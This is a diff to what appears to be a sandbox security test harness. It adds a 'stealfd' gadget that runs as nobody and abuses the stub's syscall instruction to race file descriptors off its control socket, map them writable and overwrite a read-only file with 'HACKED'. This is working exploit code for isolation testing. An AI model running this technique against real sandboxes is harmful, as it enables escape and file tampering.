@@ -11,6 +11,11 @@
  *   gadget stubclone   under systrap: makes a host process of its own by
  *                      jumping to a syscall of the stub with clone's
  *                      number; it must not outlive persona
+ *   gadget stealfd PATH
+ *                      under systrap: as nobody, one thread maps PATH (a
+ *                      read-only file) over and over while another takes
+ *                      fds off the stub's control socket with the stub's
+ *                      own recvmsg and maps them shared and writable
  *   gadget scratch     a process of another uid scribbles over its stub's
  *                      shared pages (the ptrace stub's scratch page, the
  *                      systrap stub's slots) from one thread while another
@@ -187,6 +192,88 @@ static int stubclone(void)
 	return 0;
 }
 
+/* Calls host system call `nr` on the stub's "syscall; ud2" (at `at`): the
+ * SIGILL that follows brings the result back through the guest handler. */
+static __thread sigjmp_buf call_jmp;
+static __thread volatile long call_ret;
+
+static void on_call_ill(int sig, siginfo_t *si, void *uc)
+{
+	(void)sig; (void)si;
+	call_ret = ((ucontext_t *)uc)->uc_mcontext.gregs[REG_RAX];
+	siglongjmp(call_jmp, 1);
+}
+
+static long stub_call(uint64_t at, long nr, long a0, long a1, long a2, long a3, long a4, long a5)
+{
+	if (sigsetjmp(call_jmp, 1) == 0) {
+		register long r10 __asm__("r10") = a3, r8 __asm__("r8") = a4, r9 __asm__("r9") = a5;
+		__asm__ volatile("jmp *%6" :: "a"(nr), "D"(a0), "S"(a1), "d"(a2), "r"(r10), "r"(r8), "r"(at), "r"(r9)
+				 : "memory");
+	}
+	return call_ret;
+}
+
+static uint64_t syscall_ud2(void)
+{
+	const unsigned char *text = (const unsigned char *)SYSTRAP_TEXT;
+	for (size_t off = 0; off + 3 < 4096; off++)
+		if (text[off] == 0x0f && text[off + 1] == 0x05 && text[off + 2] == 0x0f && text[off + 3] == 0x0b)
+			return SYSTRAP_TEXT + off;
+	return 0;
+}
+
+static volatile int stolen, shared_maps, done_mapping;
+
+static void *thief(void *arg)
+{
+	uint64_t at = *(uint64_t *)arg;
+	while (!done_mapping) {
+		char byte;
+		union { char buf[64]; struct cmsghdr align; } ctl;
+		struct iovec iov = { &byte, 1 };
+		struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1,
+				     .msg_control = ctl.buf, .msg_controllen = sizeof(ctl.buf) };
+		long r = stub_call(at, SYS_recvmsg, 3, (long)&mh, MSG_DONTWAIT, 0, 0, 0);
+		if (r != 1 || mh.msg_controllen < CMSG_LEN(sizeof(int)))
+			continue;
+		int fd;
+		memcpy(&fd, CMSG_DATA((struct cmsghdr *)ctl.buf), sizeof(fd));
+		stolen++;
+		long m = stub_call(at, SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+		if (m > 0) {
+			shared_maps++;
+			memcpy((void *)m, "HACKED", 6);
+		}
+	}
+	return NULL;
+}
+
+static int stealfd(const char *path)
+{
+	uint64_t at = syscall_ud2();
+	if (!at)
+		return 1;
+	struct sigaction sa = { .sa_sigaction = on_call_ill, .sa_flags = SA_SIGINFO | SA_NODEFER };
+	sigaction(SIGILL, &sa, NULL);
+	if (setgid(65534) || setuid(65534))
+		return 1;
+	pthread_t th;
+	pthread_create(&th, NULL, thief, &at);
+	for (int i = 0; i < 20000 && !shared_maps && (i < 200 || !stolen); i++) {
+		int fd = open(path, O_RDONLY);
+		void *m = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
+		if (m != MAP_FAILED)
+			munmap(m, 4096);
+		close(fd);
+	}
+	done_mapping = 1;
+	pthread_join(th, NULL);
+	printf("fds taken off the channel: %s\n", stolen ? "some" : "none");
+	printf("shared writable maps of them: %d\n", shared_maps);
+	return 0;
+}
+
 static volatile int stop;
 
 static void *scribble(void *arg)
@@ -277,6 +364,8 @@ int main(int argc, char **argv)
 		return jump(argv[2]);
 	if (argc > 2 && !strcmp(argv[1], "stubjump"))
 		return stubjump(argv[2]);
+	if (argc > 2 && !strcmp(argv[1], "stealfd"))
+		return stealfd(argv[2]);
 	if (argc > 1 && !strcmp(argv[1], "regions"))
 		return regions();
 	if (argc > 1 && !strcmp(argv[1], "stubclone"))
